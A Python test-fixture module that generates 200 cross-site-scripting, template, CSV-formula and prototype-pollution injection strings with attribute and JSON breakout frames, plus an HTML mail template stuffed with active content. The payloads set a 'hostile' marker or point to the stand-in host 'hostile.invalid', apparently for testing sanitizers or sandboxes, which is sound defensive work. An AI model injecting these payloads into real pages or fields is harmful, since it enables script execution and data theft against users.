"""Two hundred texts that would do something if any page took them for markup, and where a text may stand.

Every payload that makes an element marks it with the attribute `hostile`, and every one that runs sets a property of that
name or asks for a host of that name, so that a page that falls for one cannot hide it.
"""

RUN = "globalThis.hostile=1"
AWAY = "//hostile.invalid/"

PAYLOADS = [
    f"<script hostile>{RUN}</script>",
    f"<img hostile src=x onerror={RUN}>",
    f"<svg hostile onload={RUN}>",
    f"<svg hostile><script>{RUN}</script></svg>",
    f"<svg hostile><animate onbegin={RUN} attributeName=x>",
    f"<body hostile onload={RUN}>",
    f"<iframe hostile srcdoc='<script>{RUN}</script>'>",
    f"<iframe hostile src=javascript:{RUN}>",
    f"<a hostile href=javascript:{RUN}>go</a>",
    f"<form hostile action={AWAY}><input name=x>",
    f"<input hostile autofocus onfocus={RUN}>",
    f"<details hostile open ontoggle={RUN}>",
    f"<video hostile><source onerror={RUN}>",
    f"<audio hostile src=x onerror={RUN}>",
    f"<object hostile data=javascript:{RUN}>",
    f"<embed hostile src={AWAY}>",
    f"<link hostile rel=stylesheet href={AWAY}>",
    f"<style hostile>@import '{AWAY}';</style>",
    f"<meta hostile http-equiv=refresh content='0;url={AWAY}'>",
    f"<base hostile href={AWAY}>",
    f"<math hostile><mtext><img src=x onerror={RUN}>",
    f"<table hostile background={AWAY}>",
    f"<marquee hostile onstart={RUN}>x",
    f"<template hostile><img src=x onerror={RUN}></template>",
    f"<textarea hostile></textarea><img src=x onerror={RUN}>",
    f"<noscript hostile><img src={AWAY}></noscript>",
    f"<button hostile formaction=javascript:{RUN}>x",
    f"<select hostile onfocus={RUN} autofocus>",
    f"<picture hostile><source srcset={AWAY}><img src={AWAY}></picture>",
    f"<div hostile style=background:url({AWAY})>x</div>",
    f"<p hostile onpointerenter={RUN}>x</p>",
    f"<x-hostile hostile onclick={RUN}>x</x-hostile>",
    f"<!--><img hostile src=x onerror={RUN}>-->",
    f"<![CDATA[<img hostile src=x onerror={RUN}>]]>",
    f"</title><script hostile>{RUN}</script>",
    f"</textarea><script hostile>{RUN}</script>",
    f"</script><script hostile>{RUN}</script>",
    "{{constructor.constructor('globalThis.hostile=1')()}}",
    "${globalThis.hostile=1}",
    "#{globalThis.hostile=1}",
    f"javascript:{RUN}",
    f"data:text/html,<script hostile>{RUN}</script>",
    f"\\u003cimg hostile src=x onerror={RUN}\\u003e",
    f"&lt;img hostile src=x onerror={RUN}&gt;",
    f"%3Cimg%20hostile%20src=x%20onerror={RUN}%3E",
    f"=HYPERLINK(\"{AWAY}\",\"x\")",
    f"+cmd|' /C calc'!A0{RUN}",
    "__proto__",
    "\u202ehostile\u202d <b hostile>x</b>",
    f"\ufeff<img hostile src=x onerror={RUN}>",
]

# As they stand, and breaking out of an attribute, of an expression, and of a text in JSON.
FRAMES = ["%s", "\"'>%s", "';%s//", "\\\"}]%s"]

STRINGS = [frame.replace("%s", payload) for payload in PAYLOADS for frame in FRAMES]
assert len(STRINGS) == len(set(STRINGS)) == 200

# A mail that tries everything a template may contain, beside one text that shows that it was drawn.
TEMPLATE = f"""<html><head><title>x</title><base href="{AWAY}"><meta http-equiv="refresh" content="0;url={AWAY}">
<link rel="stylesheet" href="http:{AWAY}style.css"><style>@import "http:{AWAY}import.css"; p {{ background: url(http:{AWAY}bg.png) }}</style>
</head><body onload="{RUN}"><p>The cage holds, {{{{name}}}}.</p><script>{RUN};parent.{RUN.replace('globalThis.', '')}</script>
<img src="x" onerror="{RUN}"><img src="http:{AWAY}pixel.png"><svg><script>{RUN}</script></svg>
<form action="http:{AWAY}form" method="post"><input name="x" autofocus onfocus="{RUN}"><button>Send</button></form>
<a href="javascript:{RUN}">a script</a> <a href="https:{AWAY}link" target="_top">a target</a>
<iframe src="http:{AWAY}frame"></iframe><object data="http:{AWAY}object"></object></body></html>"""
